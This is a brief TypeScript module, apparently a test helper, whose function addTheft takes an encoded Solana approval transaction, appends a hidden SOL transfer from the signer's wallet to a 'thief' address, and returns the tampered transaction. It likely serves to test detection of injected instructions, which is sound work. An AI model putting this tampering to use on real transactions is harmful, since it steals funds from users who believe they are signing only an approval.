import {
  type Address,
  appendTransactionMessageInstruction,
  compileTransaction,
  createNoopSigner,
  decompileTransactionMessage,
  getBase64EncodedWireTransaction,
  getBase64Encoder,
  getCompiledTransactionMessageDecoder,
  getTransactionDecoder,
} from '@solana/kit';
import { getTransferSolInstruction } from '@solana-program/system';

/** An approval that also takes lamports from the wallet that signs it. */
export function addTheft(proposalApproveTx: string, wallet: Address, thief: Address): string {
  const { messageBytes } = getTransactionDecoder().decode(getBase64Encoder().encode(proposalApproveTx));
  const message = decompileTransactionMessage(getCompiledTransactionMessageDecoder().decode(messageBytes));
  const theft = getTransferSolInstruction({ source: createNoopSigner(wallet), destination: thief, amount: 1n });
  return getBase64EncodedWireTransaction(compileTransaction(appendTransactionMessageInstruction(theft, message)));
}
